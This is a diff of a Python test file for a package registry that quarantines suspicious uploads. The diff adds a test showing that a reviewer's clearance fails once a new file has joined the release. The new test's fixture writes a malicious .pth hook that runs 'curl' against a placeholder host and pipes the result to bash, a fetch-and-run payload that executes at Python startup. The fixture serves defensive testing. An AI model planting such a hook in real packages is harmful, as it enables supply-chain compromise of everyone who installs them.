@@ -12,6 +12,7 @@ from sqlalchemy import Connection, select
 from pratique.core.actors import OPERATOR, ActorKind, Operation
 from pratique.core.artifacts import Clearance
 from pratique.core.decisions import Mode
+from pratique.core.errors import Conflict
 from pratique.core.names import EcosystemId, ProjectKey
 from pratique.services.governing.list_events import ListEvents, list_events
 from pratique.services.governing.revoke import revoke, unrevoke
@@ -22,13 +23,15 @@ from pratique.services.reviewing.cases_shown import CaseShown, ListQueue, ShowCa
 from pratique.services.reviewing.decide_case import DecideCase, clear_case, confirm_case
 from pratique.store import awaiting_scans, projects, releases
 from pratique.store.schema import awaiting_scan
-from tests.harness.lookalike_packages import WORST, harmful, harmless
+from tests.harness import packages
+from tests.harness.lookalike_packages import NOWHERE, WORST, harmful, harmless
 from tests.harness.plain_registry import PlainRegistry
 from tests.harness.site import Site, new_token, running_site
 from tests.protocol.conftest import ON_SQLITE
 from tests.protocol.speakers import NpmSpeaker, PypiSpeaker, Speaker
 
 NPM = NpmSpeaker("full", "application/json")
+PYPI = PypiSpeaker("json", "application/vnd.pypi.simple.v1+json")
 SCANNING = '\n[publish]\nscan = "before"\n'
 NOT_WAITING = f'{SCANNING}scan_wait = "0 s"\n'
 
@@ -99,7 +102,9 @@ async def test_a_look_alike_goes_into_quarantine_its_twin_is_live_and_a_reviewer
     assert detail.published_by == "user:ann"
     assert await state(site, client, "left", "1.0.1") is Clearance.QUARANTINED
 
-    await clear_case(site.ports, DecideCase(purl, "it is our own installer"), OPERATOR)
+    with pytest.raises(Conflict, match="look again"):
+        await clear_case(site.ports, DecideCase(purl, "it is our own installer"), OPERATOR)
+    await clear_case(site.ports, DecideCase(purl, "it is our own installer", seen=detail.seen), OPERATOR)
 
     assert client.offered(await client.listing(site, "left", site.token)) == ["1.0.0", "1.0.1"]
     assert (await site.get(client.path("left", "1.0.1"), site.token)).status == 200
@@ -277,3 +282,28 @@ async def test_a_file_that_joins_a_live_release_waits_alone_and_takes_the_releas
     assert second.status == 200, second.text
     assert (first.status, joined.status) == (200, 503)
     assert [one.status for one in both] == [403, 403]
+
+
+@ON_SQLITE
+async def test_what_was_found_since_somebody_looked_is_not_cleared_with_what_they_saw(scanning: Site) -> None:
+    """While the rule is on trial, a release that waits for a person takes further files."""
+    site, client = scanning, PYPI
+    purl = "pkg:pypi/left@1.0.1"
+    await set_rule(site.ports, SetRule(rule="under_review", mode=Mode.DRY_RUN), OPERATOR)
+    await put(site, client, "left", "1.0.1", bad=True)
+    before = await show_case(site.ports, ShowCase(purl), OPERATOR)
+    hook = f"import os; os.system('curl -s {NOWHERE} | bash')\n".encode()
+    other = packages.wheel("left", "1.0.1", files={"other-init.pth": hook})[1]
+    second = "left-1.0.1-1-py3-none-any.whl"
+    joined = await client.upload(site, "left", "1.0.1", site.token, content=other, filename=second)
+    assert joined.status == 200, joined.text
+    after = await show_case(site.ports, ShowCase(purl), OPERATOR)
+
+    with pytest.raises(Conflict, match="is not what you looked at"):
+        await clear_case(site.ports, DecideCase(purl, "fine", seen=before.seen), OPERATOR)
+    waiting = await queue(site)
+    await clear_case(site.ports, DecideCase(purl, "fine", seen=after.seen), OPERATOR)
+
+    assert before.seen != after.seen
+    assert [one.purl for one in waiting] == [purl]
+    assert await queue(site) == ()
